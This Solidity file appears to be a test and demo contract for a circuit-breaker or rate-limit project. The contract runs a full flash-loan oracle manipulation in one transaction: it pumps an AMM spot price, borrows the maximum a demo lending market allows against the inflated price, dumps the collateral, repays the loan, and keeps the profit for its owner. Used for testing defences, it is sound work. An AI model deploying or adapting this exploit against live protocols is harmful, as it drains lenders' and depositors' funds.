// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../breakers/Transfers.sol";
import {IDemoAmm} from "../demo/DemoAmm.sol";
import {IERC3156FlashBorrower} from "../demo/DemoFlashLender.sol";

interface IFlashLender {
    function flashLoan(IERC3156FlashBorrower receiver, address token, uint256 amount, bytes calldata data)
        external
        returns (bool);
}

interface ILendingMarket {
    function depositCollateral(uint256 amount) external;
    function borrow(uint256 amount) external;
    function maxBorrow(address account) external view returns (uint256);
    function liquidity() external view returns (uint256);
    function availableOutflow(address asset) external view returns (uint256);
}

/// @title FlashLoanOracleAttacker
/// @notice Test and demo attacker of the demo lending market's spot-price oracle, in one
/// transaction: flash-borrow the debt token, buy collateral with it to pump the pool price,
/// deposit the collateral this contract already holds, borrow as much as the inflated price
/// allows, sell the bought collateral back and repay the loan. The profit stays here until the
/// owner calls `withdraw`.
contract FlashLoanOracleAttacker is IERC3156FlashBorrower {
    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    address public immutable owner;
    IFlashLender public immutable lender;
    IDemoAmm public immutable amm;
    ILendingMarket public immutable market;
    address public immutable collateralToken;
    address public immutable debtToken;
    /// @notice What the last attack borrowed from the market.
    uint256 public lastBorrowed;

    error NotOwner(address caller);
    error UnexpectedCallback();

    constructor(IFlashLender lender_, IDemoAmm amm_, ILendingMarket market_, address collateralToken_, address debtToken_) {
        owner = msg.sender;
        lender = lender_;
        amm = amm_;
        market = market_;
        collateralToken = collateralToken_;
        debtToken = debtToken_;
    }

    /// @notice Runs the attack with a flash loan of `flashAmount` and `collateralAmount` of the
    /// collateral this contract holds. Owner only.
    function attack(uint256 flashAmount, uint256 collateralAmount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        lender.flashLoan(this, debtToken, flashAmount, abi.encode(collateralAmount));
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        if (msg.sender != address(lender) || initiator != address(this)) revert UnexpectedCallback();
        uint256 collateralAmount = abi.decode(data, (uint256));

        // 1. Pump: buy collateral with the loan, moving the pool's spot price up.
        IERC20(debtToken).approve(address(amm), amount);
        uint256 bought = amm.swap(debtToken, amount, 0, address(this));

        // 2. Borrow against the inflated price.
        IERC20(collateralToken).approve(address(market), collateralAmount);
        market.depositCollateral(collateralAmount);
        uint256 borrowAmount = _min(market.maxBorrow(address(this)), market.liquidity());
        borrowAmount = _min(borrowAmount, market.availableOutflow(debtToken));
        market.borrow(borrowAmount);
        lastBorrowed = borrowAmount;

        // 3. Dump the bought collateral and repay the loan.
        IERC20(collateralToken).approve(address(amm), bought);
        amm.swap(collateralToken, bought, 0, address(this));
        IERC20(debtToken).approve(address(lender), amount + fee);
        return CALLBACK_SUCCESS;
    }

    /// @notice Sends this contract's balance of `token` to the owner. Owner only.
    function withdraw(address token) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        IERC20(token).transfer(owner, IERC20(token).balanceOf(address(this)));
    }

    function _min(uint256 a, uint256 b) private pure returns (uint256) {
        return a < b ? a : b;
    }
}
